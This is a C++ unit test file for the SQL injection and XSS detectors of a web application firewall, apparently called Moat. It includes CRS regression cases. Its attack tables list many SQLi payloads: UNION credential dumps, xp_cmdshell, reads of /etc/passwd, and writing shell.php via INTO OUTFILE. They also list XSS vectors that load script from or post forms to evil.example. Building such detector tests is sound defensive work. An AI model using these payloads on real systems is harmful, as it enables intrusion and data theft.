#include "moat/waf/injection.h"

#include <gtest/gtest.h>

#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <sstream>
#include <string>
#include <string_view>
#include <vector>

// Tables of attack and benign values for the SQLi and XSS detectors, written for
// Moat, plus the argument values of the CRS regression tests 942100.yaml and
// 941100.yaml (CRS v3 legacy ftw format), decoded by hand the way the rules'
// transformations (t:utf8toUnicode,t:urlDecodeUni,t:removeNulls) would.

namespace moat::waf {
namespace {

// ---- SQL injection -----------------------------------------------------------

const std::vector<std::string> kSqliAttacks = {
    // Breaking out of a single-quoted string.
    "' OR 1=1 --",
    "' or 'a'='a",
    "admin'--",
    "admin' #",
    "admin'/*",
    "' OR '1'='1' --",
    "1' and '1'='1",
    "%' or '0'='0",
    "x' AND 1=(SELECT COUNT(*) FROM users)--",
    "' or username like '%admin%",
    "' UNION SELECT username, password FROM users--",
    "') UNION SELECT * FROM users--",
    "' union select @@version --",
    "1' ORDER BY 3--",
    "' having 1=1--",
    "' group by password having 1=1--",
    "'; DROP TABLE users; --",
    "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
    "1' waitfor delay '0:0:10'--",
    "';shutdown--",
    "' AND extractvalue(1,concat(0x7e,version()))--",
    "' and updatexml(1,concat(0x7e,(select user())),1)--",
    "' or sleep(5)#",
    "') or ('a'='a",
    "1')) or (('1'='1",
    "' or 1 -- -",
    "1' or true--",
    "x'='x",
    "' and (select 1)='1",
    "' and 1 in (select min(name) from sysobjects)--",
    "1'||'1'='1",
    "' || '1'='1",
    "' and ascii(substring((select database()),1,1))>64--",
    "'+(select load_file('/etc/passwd'))+'",
    "admin')--",
    "' into outfile '/var/www/shell.php'--",
    // Double quotes.
    "\" or \"\"=\"",
    "\" or 1=1 --",
    "admin\" --",
    "\") or (\"1\"=\"1",
    // Numeric contexts.
    "1 or 1=1",
    "1 AND 1=1",
    "1 AND SLEEP(5)",
    "1) OR (1=1",
    "-1 union select 1,2,3",
    "1 union all select null,null--",
    "1) union select null--",
    "1; DROP TABLE users",
    "1;select pg_sleep(5)",
    "1 and benchmark(5000000,md5(1))",
    "1 and ascii(substring((select user()),1,1))>64",
    "1 and 1=convert(int,@@version)",
    "1 and @@version>0",
    "1 order by 5",
    "0x31 or 1=1",
    "1 || 1=1",
    "1/**/union/**/select/**/1,2",
    "1 /*!50000union*/ /*!50000select*/ 1,2",
    "1 waitfor delay '0:0:5'",
    "1-sleep(5)",
    // Whole statements and calls.
    "sleep(5)",
    "pg_sleep(10)",
    "SELECT * FROM users",
    "select name from users where id=1",
    "select @@version",
    "union select 1,2",
    "drop table users",
    "insert into users values('a','b')",
    "update users set role='admin' where 1=1",
    "exec xp_cmdshell 'dir'",
    "waitfor delay '0:0:5'",
    "; declare @x varchar(99)",
    "abc or 1=1",
    "hello; drop table users",
    "id=1 union select 1",
    "@@version",
    "1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(CHAR(95),FLOOR(RAND(0)*2)) x FROM users GROUP BY x)",
    "if(now()=sysdate(),sleep(5),0)",
    "1 xor(if(now()=sysdate(),sleep(5),0))or",
    "' and 1::int=1--",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "1' and '1",
    "' or ''-'",
    "' or 2 between 1 and 3",
    "' or username is not null or username = '",
    "1 union(select 1)",
    "';EXEC('SEL'+'ECT 1')--",
    "' || utl_inaddr.get_host_address((select user from dual)) || '",
    "'=0#",
    "'or'1'='1",
    "admin'/**/or/**/1=1#",
    "'/**/OR/**/1/**/=/**/1",
    "1'/*!or*/1=1#",
    "'-sleep(5)-'",
    "' xor sleep(5) xor '",
    "'1001'='10",
    "x' (select load_file('/etc/passwd')) '",
    "1(select*from(select(sleep(5)))d)",
};

const std::vector<std::string> kSqliBenign = {
    "select your size and color",
    "O'Reilly",
    "Tom & Jerry",
    "1 or 2 items",
    "don't",
    "it's 5 o'clock",
    "Rock 'n' roll",
    "D'Angelo or someone",
    "I'm 5' 10\" tall",
    "Is he 5' or 6' tall?",
    "the kids' toys and games",
    "Jones' and Smith's",
    "\"Hello\" said the man",
    "He said \"hi\" and left",
    "12345",
    "3.14159",
    "-42",
    "2024-01-15",
    "12/31/2024",
    "10:30 AM",
    "bob@example.com",
    "a.b+c@example.co.uk",
    "https://example.com/path?x=1&y=2#frag",
    "http://www.cnn.com",
    "/search?q=union+station",
    "dGVzdCBzdHJpbmc=",
    "SGVsbG8gV29ybGQhIQ==",
    "{\"name\":\"O'Reilly\",\"qty\":1}",
    "{\"query\":\"select\",\"limit\":10}",
    "{\"filter\":\"and\",\"or\":[1,2]}",
    "[1,2,3]",
    "{\"color\":\"#ff0000\"}",
    "\"#ff0000\"",
    "color: '#333'",
    "true",
    "null",
    "John Smith",
    "Order by phone or email",
    "Please delete my account",
    "Terms and conditions; see below",
    "Hello; select an option",
    "Select one",
    "We are open from 9 to 5",
    "union station",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.0.1) Gecko/2008070206 Firefox/3.0.1",
    "ModSecurity CRS 3 Tests",
    "session=abc123; theme=dark",
    "_ga=GA1.2.1234567890.1700000000",
    "en-US,en;q=0.9",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "gzip, deflate, br",
    "AT&T",
    "R&D department",
    "wait -- really?",
    "item #5",
    "#hashtag",
    "C:\\Program Files\\App",
    "1 + 2 = 3",
    "x = y + 1",
    "100%",
    "$19.99",
    "+1 (555) 123-4567",
    "550e8400-e29b-41d4-a716-446655440000",
    "user_name",
    "first.last",
    "Sleep well",
    "version 2.0",
    "count",
    "the user (admin) logged in",
    "5 or more people",
    "me & you || them",
    "\"quoted\"",
    "'single'",
    "it's fine -- mostly",
    "Sleep(ing) well",
    "Get more sleep(8 hours)",
    "(Select 1)",
    "Select 1",
    "'a' = 'b'",
    "{\"a\":\"x' or\"}",
    "Jones' and 'Smith'",
    "2 and (optionally) 3",
    "5 or @bob",
    "x::y",
    "count(3)",
    "max(1,2)",
    "if (you can)",
    "Exec Director",
    "exec (",
    "I can't believe it's not butter",
    "He's 6' 2\" and weighs 200 lbs",
    "Please select one or more options from the list below",
    "Create an account or sign in",
    "The 'best' or the 'worst'",
    "\"Hello\" and \"Goodbye\"",
    "C'est la vie",
    "aujourd'hui ou demain",
    "She said 'yes' or 'no'",
    "'70s and '80s music",
    "I'm not sure; drop by later",
    "Title: 'Union' -- a novel",
};

TEST(DetectSqli, AttacksTable) {
  int hit = 0;
  for (const std::string& s : kSqliAttacks) {
    std::string fp;
    const bool got = detectSqli(s, &fp);
    EXPECT_TRUE(got) << "missed: " << s;
    if (got) {
      ++hit;
      EXPECT_FALSE(fp.empty()) << s;
    }
  }
  std::printf("SQLi attacks detected: %d/%zu\n", hit, kSqliAttacks.size());
  EXPECT_GE(kSqliAttacks.size(), 60u);
}

TEST(DetectSqli, BenignTable) {
  int fp = 0;
  for (const std::string& s : kSqliBenign) {
    std::string f;
    const bool got = detectSqli(s, &f);
    EXPECT_FALSE(got) << "false positive: " << s << " fingerprint " << f;
    fp += got;
  }
  std::printf("SQLi benign flagged: %d/%zu\n", fp, kSqliBenign.size());
  EXPECT_GE(kSqliBenign.size(), 60u);
}

TEST(DetectSqli, Fingerprint) {
  std::string fp = "untouched";
  EXPECT_FALSE(detectSqli("hello world", &fp));
  EXPECT_EQ(fp, "untouched");
  EXPECT_TRUE(detectSqli("' OR 1=1 --", &fp));
  EXPECT_EQ(fp, "'s&n=n");
  EXPECT_TRUE(detectSqli("1 union all select 1", &fp));
  EXPECT_EQ(fp, "nUEn");
  EXPECT_TRUE(detectSqli("\" or \"\"=\"", &fp));
  EXPECT_EQ(fp, "\"s&s=s");
  EXPECT_TRUE(detectSqli("1' order by 3--"));  // null fingerprint pointer is fine
}

TEST(DetectSqli, EdgeInputs) {
  EXPECT_FALSE(detectSqli(""));
  EXPECT_FALSE(detectSqli("'"));
  EXPECT_FALSE(detectSqli("\""));
  EXPECT_FALSE(detectSqli("''"));
  EXPECT_FALSE(detectSqli("\\"));
  EXPECT_FALSE(detectSqli(std::string_view("\0\0\0", 3)));
  EXPECT_FALSE(detectSqli("/*"));
  EXPECT_FALSE(detectSqli("0x"));
  EXPECT_FALSE(detectSqli("@"));
  EXPECT_FALSE(detectSqli("`"));
  EXPECT_FALSE(detectSqli(std::string(100000, 'a')));
  EXPECT_FALSE(detectSqli(std::string(100000, '(')));
  EXPECT_FALSE(detectSqli(std::string(100000, '\'')));
  // Bytes above 0x7f are word characters.
  EXPECT_FALSE(detectSqli("caf\xc3\xa9 cr\xc3\xa8me"));
  // Only the first tokens count: an attack far behind benign text is out of view.
  std::string longPrefix;
  for (int i = 0; i < 100; ++i) longPrefix += "word ";
  EXPECT_FALSE(detectSqli(longPrefix + "1 union select 1"));
}

// CRS 942100.yaml: the `var` argument of each test, decoded ('+' is a space
// after urlDecodeUni). Every test in that file expects a detection.
TEST(DetectSqli, Crs942100) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"942100-3", "-1839\" or \"1\"=\"2"},
      {"942100-4", "2010-01-01' sleep(20.to_i) '"},
      {"942100-5", "EmptyValue' and 526=527"},
      {"942100-8", "JKGHUKGDI8TDHLFJH72FZLFJSKFH' and sleep(12) --"},
      {"942100-9", "/path/to/file/unitests.txt') UNION ALL select NULL --"},
      {"942100-11", "sleep(20)"},
      {"942100-14", "\"unittests@coreruleset.org\"')) and (select*from(select(sleep(5)))x) --"},
  };
  for (const auto& [name, value] : cases) EXPECT_TRUE(detectSqli(value)) << name << ": " << value;
  // 942100-4 as sent raw ('+' kept, e.g. in a JSON or XML body).
  EXPECT_TRUE(detectSqli("2010-01-01'+sleep(20.to_i)+'"));
  // The argument name of every test.
  EXPECT_FALSE(detectSqli("var"));
}

// ---- XSS ---------------------------------------------------------------------

const std::vector<std::string> kXssAttacks = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "\"><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"evil.swf\">",
    "<embed src=evil.swf>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"http://evil.example/\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<div style=\"width: expression(alert(1))\">",
    "<form action=\"https://evil.example/collect\"><input name=p></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video><source onerror=\"alert(1)\">",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<div onmouseover = 'alert(1)'>hover</div>",
    "<p/onclick=alert(1)>x",
    // Starting inside an attribute value.
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus=alert(1) x='",
    "x onmouseover=alert(1)",
    "\"onfocus=alert(1) autofocus x=\"",
    // A URL on its own (reflected into href/src).
    "javascript:alert(1)",
    "  JAVASCRIPT:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "<img src=`x`onerror=alert(1)>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<svg><a xlink:href=\"javascript:alert(1)\">",
    "\"/onmouseover=\"alert(1)",
    "\" style=\"background:url(javascript:alert(1))",
    "x\" href=\"javascript:alert(1)",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<table background=\"javascript:alert(1)\">",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<?import implementation=\"evil.htc\">",
    "<v:vmlframe src=\"foo.com/sup.fml\"/>",
    "ja&tab;vascript:alert(1)",
};

const std::vector<std::string> kXssBenign = {
    "a < b and c > d",
    "<3",
    "I love you <3",
    "x<y",
    "if (a<b && c>d) return;",
    "1 < 2",
    "<<<<",
    "<bob@example.com>",
    "John Smith <john.smith@example.com>",
    "plain text",
    "Hello, world!",
    "{\"name\":\"x\",\"on\":true}",
    "{\"onload\":\"init\",\"values\":[1,2,3]}",
    "[1,2,3]",
    "**bold** and _italic_ [link](https://example.com)",
    "<https://example.com>",
    "<b>bold</b>",
    "<i>italic</i> and <em>em</em>",
    "<p class=\"intro\">Hello</p>",
    "<a href=\"https://example.com/\">link</a>",
    "<a href=\"/relative/path?x=1&y=2\">link</a>",
    "<img src=\"/logo.png\" alt=\"Logo\">",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    "<br/>",
    "<ul><li>one</li><li>two</li></ul>",
    "<div style=\"color: red; margin: 0 auto\">x</div>",
    "Price: <$100",
    "He said \"hello\" once",
    "It's online = true",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 "
    "Safari/537.36",
    "ModSecurity CRS 3 Tests",
    "http://www.cnn.com",
    "https://example.com/search?q=onload+event&lang=en",
    "mailto:bob@example.com",
    "data:image/png;base64,iVBORw0KGgo=",
    "javascript is fun",
    "x=1&y=2",
    "Tom & Jerry",
    "a<b>c",
    "select your size and color",
    "O'Reilly",
    "one=1 two=2",
    "2 > 1",
    "<",
    ">",
    "<b>Note:</b> one=1",
    "Press <Enter> to continue",
    "std::vector<int> v;",
    "List<String> x = new ArrayList<>();",
    "<bob@example.com>, <alice@example.com>",
    "\"><b>",
    "' title='x",
    "<!DOCTYPE html>",
    "<span style=\"font-family: Arial\">x</span>",
    "{\"a\":\"b\",\"c\":\"javascript:void(0)\"}",
    "<a href=\"https://x.com/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener\">x</a>",
    "<xml><element attribute_name=\"attribute_value\">value</element></xml>",
};

TEST(DetectXss, AttacksTable) {
  int hit = 0;
  for (const std::string& s : kXssAttacks) {
    const bool got = detectXss(s);
    EXPECT_TRUE(got) << "missed: " << s;
    hit += got;
  }
  std::printf("XSS attacks detected: %d/%zu\n", hit, kXssAttacks.size());
  EXPECT_GE(kXssAttacks.size(), 40u);
}

TEST(DetectXss, BenignTable) {
  int fp = 0;
  for (const std::string& s : kXssBenign) {
    const bool got = detectXss(s);
    EXPECT_FALSE(got) << "false positive: " << s;
    fp += got;
  }
  std::printf("XSS benign flagged: %d/%zu\n", fp, kXssBenign.size());
  EXPECT_GE(kXssBenign.size(), 40u);
}

TEST(DetectXss, EdgeInputs) {
  EXPECT_FALSE(detectXss(""));
  EXPECT_FALSE(detectXss("&"));
  EXPECT_FALSE(detectXss("&#"));
  EXPECT_FALSE(detectXss("&#x"));
  EXPECT_FALSE(detectXss("&#99999999999999999999;"));
  EXPECT_FALSE(detectXss("<a"));
  EXPECT_FALSE(detectXss("<a href="));
  EXPECT_FALSE(detectXss("<a href=\""));
  EXPECT_FALSE(detectXss("\""));
  EXPECT_FALSE(detectXss("'"));
  EXPECT_FALSE(detectXss(std::string(100000, '<')));
  EXPECT_FALSE(detectXss(std::string(100000, 'a')));
  std::string tags;
  for (int i = 0; i < 10000; ++i) tags += "<a b=c ";
  EXPECT_FALSE(detectXss(tags));
  EXPECT_TRUE(detectXss(tags + "<img src=x onerror=alert(1)>"));
}

// CRS 941100.yaml, decoded.
TEST(DetectXss, Crs941100) {
  // 941100-3: User-Agent after urlDecodeUni; expects a detection.
  EXPECT_TRUE(
      detectXss("/char_test?mime=text/xml&body=<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" "
                "src=\"data:,alert(1)\" />"));
  // 941100-4: expects none (User-Agent, Referer).
  EXPECT_FALSE(detectXss("ModSecurity CRS 3 Tests"));
  EXPECT_FALSE(detectXss("http://www.cnn.com"));
  EXPECT_FALSE(detectXss("localhost"));
}

// When the CRS test files are at hand (../shared beside the repository, or
// MOAT_SHARED_DIR), check that every value quoted above still appears in them,
// so the hand-decoded cases do not drift from the suite. Skips cleanly
// otherwise.
TEST(DetectInjection, CrsFilesStillMatchTables) {
  std::string dir;
  if (const char* env = std::getenv("MOAT_SHARED_DIR")) {
    dir = env;
  } else {
#ifdef MOAT_SOURCE_DIR_FOR_TESTS
    dir = std::string(MOAT_SOURCE_DIR_FOR_TESTS) + "/../shared";
#else
    GTEST_SKIP() << "set MOAT_SHARED_DIR to check against the CRS test files";
#endif
  }
  std::ifstream sqli(dir + "/crs-tests/REQUEST-942-APPLICATION-ATTACK-SQLI/942100.yaml");
  std::ifstream xss(dir + "/crs-tests/REQUEST-941-APPLICATION-ATTACK-XSS/941100.yaml");
  if (!sqli || !xss) GTEST_SKIP() << "CRS test files not found under " << dir;
  std::stringstream a, b;
  a << sqli.rdbuf();
  b << xss.rdbuf();
  const std::string sq = a.str(), xs = b.str();
  for (const char* needle :
       {"var=-1839\" or \"1\"=\"2", "var=2010-01-01'+sleep(20.to_i)+'",
        "var=EmptyValue' and 526=527", "var=sleep(20)", "') UNION ALL select NULL --"})
    EXPECT_NE(sq.find(needle), std::string::npos) << needle;
  for (const char* needle :
       {"%3Cx:script%20xmlns:x=", "ModSecurity CRS 3 Tests", "http://www.cnn.com"})
    EXPECT_NE(xs.find(needle), std::string::npos) << needle;
}

}  // namespace
}  // namespace moat::waf
